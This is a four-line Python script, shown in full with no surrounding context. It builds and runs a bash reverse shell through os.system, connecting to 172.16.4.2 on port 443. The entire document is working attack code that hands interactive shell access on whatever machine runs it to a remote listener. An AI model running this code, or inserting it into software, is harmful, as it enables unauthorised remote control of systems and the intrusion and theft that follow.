
import os
host = "172.16.4.2"
port = 443
os.system(f"bash -i >& /dev/tcp/{host}/{port} 0>&1")
